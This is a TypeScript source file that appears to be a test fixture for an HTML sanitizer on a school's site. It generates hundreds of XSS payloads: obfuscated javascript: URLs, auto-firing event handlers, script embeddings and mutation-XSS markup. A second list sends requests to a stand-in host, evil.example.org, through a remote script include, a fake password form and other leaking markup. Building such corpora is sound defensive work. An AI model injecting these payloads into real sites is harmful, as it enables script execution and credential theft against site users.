/** Every payload calls this with its own number. */
const call = (id: number) => `top.ran(${id})`;

type Make = (code: string) => string;

const sparse = (text: string) => [...text].map((letter) => `&#${letter.codePointAt(0)};`).join('');

const hex = (text: string) =>
  [...text].map((letter) => `&#x${letter.codePointAt(0)?.toString(16)}`).join('');

/** javascript: URLs in spellings that browsers still execute. */
const schemes: readonly Make[] = [
  (code) => `javascript:${code}`,
  (code) => `JaVaScRiPt:${code}`,
  (code) => `  javascript:${code}`,
  (code) => `&#1;javascript:${code}`,
  (code) => `java&#9;script:${code}`,
  (code) => `java&#10;script:${code}`,
  (code) => `java&NewLine;script:${code}`,
  (code) => `&Tab;javascript&Tab;:${code}`,
  (code) => `javascript&colon;${code}`,
  (code) => `${sparse('javascript')}:${code}`,
  (code) => `${hex('javascript:')};${code}`,
  (code) => `javascript://school/%0a${code}`,
  (code) => `javascript:/*--></title></style>*/${code}`,
];

/** Elements that follow such a URL when clicked. */
const links: readonly ((href: string) => string)[] = [
  (href) => `<a href="${href}">x</a>`,
  (href) => `<a href='${href}' target=_self>x</a>`,
  (href) => `<map><area shape=default href="${href}"></map>`,
  (href) => `<form action="${href}"><button>x</button></form>`,
  (href) => `<form><button formaction="${href}">x</button></form>`,
  (href) => `<form><input type=submit formaction="${href}"></form>`,
  (href) => `<form><input type=image alt=x formaction="${href}"></form>`,
  (href) => `<svg><a href="${href}"><text y=20>x</text></a></svg>`,
  (href) => `<svg><a xlink:href="${href}"><text y=20>x</text></a></svg>`,
];

/** Elements that fire events without interaction, and the events. */
const events: readonly (readonly [element: string, event: string, more: string])[] = [
  ['img src=/media/none.webp', 'onerror', ''],
  ['img src=data:,', 'onerror', ''],
  [
    'img src=data:image/gif;base64,R0lGODlhAQABAAAAACH5BAEKAAEALAAAAAABAAEAAAICTAEAOw==',
    'onload',
    '',
  ],
  ['image src=data:,', 'onerror', ''],
  ['input type=image alt=x src=data:,', 'onerror', ''],
  ['input autofocus', 'onfocus', ''],
  ['textarea autofocus', 'onfocus', ''],
  ['select autofocus', 'onfocus', ''],
  ['button autofocus', 'onfocus', ''],
  ['a href=# autofocus', 'onfocus', ''],
  ['p tabindex=0 autofocus', 'onfocusin', ''],
  ['div contenteditable autofocus', 'onfocus', ''],
  ['details open', 'ontoggle', '<summary>x</summary>'],
  ['video src=data:,', 'onerror', ''],
  ['audio src=data:,', 'onerror', ''],
  ['video src=/media/none.mp4', 'onloadstart', ''],
  ['video', 'onerror', '<source src=data:,>'],
  ['svg', 'onload', ''],
  ['svg', 'onload', '<g/>'],
  ['iframe', 'onload', ''],
  ['iframe src=about:blank', 'onload', ''],
  ['object data=data:text/html,x', 'onload', ''],
  ['object data=data:,', 'onload', ''],
  ['embed src=data:text/html,x', 'onload', ''],
  ['style', 'onload', 'p{}'],
  ['link rel=stylesheet href=data:text/css,', 'onload', ''],
  ['link rel=stylesheet href=/media/none.css', 'onerror', ''],
  ['script src=data:,', 'onload', ''],
  ['script src=/media/none.js', 'onerror', ''],
  ['body', 'onload', ''],
  ['body', 'onpageshow', ''],
  ['frameset', 'onload', ''],
  ['p style="animation:a 1ms"', 'onanimationstart', '<style>@keyframes a{}</style>'],
  ['p style="animation:a 1ms"', 'onanimationend', '<style>@keyframes a{}</style>'],
  ['b style="animation:a 1ms 2"', 'onanimationiteration', '<style>@keyframes a{}</style>'],
  ['div style="animation:a 1ms"', 'onwebkitanimationstart', '<style>@keyframes a{}</style>'],
  ['svg><animate attributeName=x dur=1ms', 'onbegin', ''],
  ['svg><set attributeName=x', 'onbegin', ''],
  ['svg><animate attributeName=x dur=1ms', 'onend', ''],
  ['svg><animatetransform attributeName=x dur=1ms', 'onbegin', ''],
  ['svg><image href=data:,', 'onerror', ''],
  ['math><mtext><img src=data:,', 'onerror', ''],
  ['table><td><img src=data:,', 'onerror', ''],
];

/** Ways to write an attribute. */
const writings: readonly ((
  element: string,
  event: string,
  code: string,
  rest: string,
) => string)[] = [
  (element, event, code, rest) => `<${element} ${event}=${code}>${rest}`,
  (element, event, code, rest) =>
    `<${element}\n${event.toUpperCase()}\t=\n"${hex(code.slice(0, 4))};${code.slice(4)}">${rest}`,
];

/** Scripts and embedded documents. */
const scripts: readonly Make[] = [
  (code) => `<script>${code}</script>`,
  (code) => `<ScRiPt >${code}</sCrIpT\n>`,
  (code) => `<script type=module>${code}</script>`,
  (code) => `<script src="data:text/javascript,${code}"></script>`,
  (code) => `<svg><script>${code}</script></svg>`,
  (code) => `<svg><script>${sparse(code)}</script></svg>`,
  (code) => `<svg><script href="data:text/javascript,${code}" /></svg>`,
  (code) => `<iframe srcdoc="<script>${code}</script>"></iframe>`,
  (code) => `<iframe srcdoc="${sparse(`<script>${code}</script>`)}"></iframe>`,
  (code) => `<iframe srcdoc='<img src=data:, onerror=${code}>'></iframe>`,
  (code) => `<iframe src="javascript:${code}"></iframe>`,
  (code) => `<iframe src="java&#9;script:${code}"></iframe>`,
  (code) => `<embed src="javascript:${code}">`,
  (code) => `<object data="javascript:${code}"></object>`,
  (code) => `<frameset><frame src="javascript:${code}"></frameset>`,
  (code) => `<meta http-equiv=refresh content="0;url=javascript:${code}">`,
  (code) => `<template shadowrootmode=open><img src=data:, onerror=${code}></template>`,
  (code) => `<div><template shadowrootmode=open><script>${code}</script></template></div>`,
  (code) => `<svg><use href="data:image/svg+xml,<svg id=x onload=${code}></svg>#x"></use></svg>`,
];

/** Mutation XSS: markup that changes when it is serialised and parsed again. */
const changing: readonly Make[] = [
  (code) => `<noscript><p title="</noscript><img src=data:, onerror=${code}>">`,
  (code) => `<xmp><p title="</xmp><img src=data:, onerror=${code}>">`,
  (code) => `<noembed><p title="</noembed><img src=data:, onerror=${code}>">`,
  (code) => `<noframes><p title="</noframes><img src=data:, onerror=${code}>">`,
  (code) => `<title><p title="</title><img src=data:, onerror=${code}>">`,
  (code) => `<textarea><p title="</textarea><img src=data:, onerror=${code}>">`,
  (code) => `<style><p title="</style><img src=data:, onerror=${code}>">`,
  (code) => `<svg><style><p title="</style><img src=data:, onerror=${code}>">`,
  (code) => `<svg></p><style><a title="</style><img src=data:, onerror=${code}>">`,
  (code) =>
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=data:, onerror=${code}&gt;">`,
  (code) =>
    `<form><math><mtext></form><form><mglyph><style></math><img src=data:, onerror=${code}>`,
  (code) =>
    `<math><annotation-xml encoding="text/html"><style><img src=data:, onerror=${code}></style>`,
  (code) =>
    `<svg><foreignobject><p><style><!--</style><a title="--><img src=data:, onerror=${code}>">`,
  (code) =>
    `<svg><desc><noscript><style></noscript><a title="</style><img src=data:, onerror=${code}>">`,
  (code) => `<!--><img src=data:, onerror=${code}>-->`,
  (code) => `<!--<p>--!><img src=data:, onerror=${code}>`,
  (code) => `<![CDATA[><img src=data:, onerror=${code}>]]>`,
  (code) => `<?x ><img src=data:, onerror=${code}>?>`,
  (code) => `</p><img src=data:, onerror=${code}//<b`,
  (code) => `<scr<script>ipt>${code}</scr</script>ipt>`,
  (code) => `<a href="x" title='"><img src=data:, onerror=${code}>'>x</a>`,
  (code) => `<b class="&quot;&gt;&lt;img src=data:, onerror=${code}&gt;">x</b>`,
  (code) => `&lt;img src=data:, onerror=${code}&gt;`,
  (code) => `\u0000<img\u0000 src=data:, onerror=${code}>`,
  (code) => `<img src=data:, alt="\`><script>${code}</script>">`,
  (code) =>
    `<select><template><style><!--</style><a rel="--></style></template></select><img src=data:, onerror=${code}>">`,
  (code) => `<table><caption><svg><title><table><tr><td><img src=data:, onerror=${code}>`,
  (code) =>
    `<p id=attributes><input name=nodeName><form id=x><input name=childNodes></form><img src=data:, onerror=${code}>`,
  (code) => `<selectedcontent><button><img src=data:, onerror=${code}></button></selectedcontent>`,
  (code) => `<math><mi xlink:href="javascript:${code}">x</mi></math>`,
  (code) =>
    `<svg><animate attributeName=href values="javascript:${code}" /><a><text y=20>x</text></a></svg>`,
  (code) => `<base href="javascript:/x/"><a href="/../${code}">x</a>`,
  (code) => `<link rel=import href="data:text/html,<script>${code}</script>">`,
  (code) =>
    `<p style="width:expression(${code});behavior:url(#x);-moz-binding:url(data:,${code})">x</p>`,
  (code) =>
    `<a href="vbscript:${code}">x</a><a href="data:text/html,<script>${code}</script>">x</a>`,
  (code) => `<portal src="javascript:${code}"></portal><applet code="javascript:${code}"></applet>`,
];

const makes: readonly Make[] = [
  ...schemes.flatMap((scheme) =>
    links.map(
      (link): Make =>
        (code) =>
          link(scheme(code)),
    ),
  ),
  ...events.flatMap(([element, event, rest]) =>
    writings.map(
      (write): Make =>
        (code) =>
          write(element, event, code, rest),
    ),
  ),
  ...[...scripts, ...changing],
];

/** XSS payloads for fields of the school's content; each calls with its index. */
export const payloads: readonly string[] = makes.map((make, id) => make(call(id)));

/** The foreign host in the next payloads. */
export const FOREIGN = 'evil.example.org';

/** Markup that leaks to a foreign host, or hides or covers content. */
export const leaks: readonly string[] = [
  `<link rel=stylesheet href=//${FOREIGN}/a.css>`,
  `<link rel=prefetch href=//${FOREIGN}/b>`,
  `<link rel=preconnect href=//${FOREIGN}>`,
  `<link rel=dns-prefetch href=//${FOREIGN}>`,
  `<style>@import '//${FOREIGN}/c.css'; p { background: url(//${FOREIGN}/d) }</style>`,
  `<p style="background:url(//${FOREIGN}/e)">x</p>`,
  `<p style="position:fixed;inset:0;z-index:999999">cover</p>`,
  `<script src=//${FOREIGN}/f.js></script>`,
  `<iframe src=//${FOREIGN}/g></iframe>`,
  `<object data=//${FOREIGN}/h></object><embed src=//${FOREIGN}/i>`,
  `<video src=//${FOREIGN}/j poster=//${FOREIGN}/k></video><audio src=//${FOREIGN}/l></audio>`,
  `<video><source src=//${FOREIGN}/m><track src=//${FOREIGN}/n></video>`,
  `<svg><image href=//${FOREIGN}/o /><use href=//${FOREIGN}/p#x /></svg>`,
  `<input type=image src=//${FOREIGN}/q><table background=//${FOREIGN}/r><td>x</table>`,
  `<meta http-equiv=refresh content="0;url=//${FOREIGN}/s">`,
  `<base href=//${FOREIGN}/>`,
  `<form action=//${FOREIGN}/t><input name=password autofocus><button>Log in</button></form>`,
  `<a href=/about ping=//${FOREIGN}/u>x</a>`,
  `<picture><source srcset=//${FOREIGN}/v><img src=/media/none.webp srcset="//${FOREIGN}/w 1x"></picture>`,
  `<math><mglyph src=//${FOREIGN}/x></math><img src=/media/none.webp lowsrc=//${FOREIGN}/y>`,
];
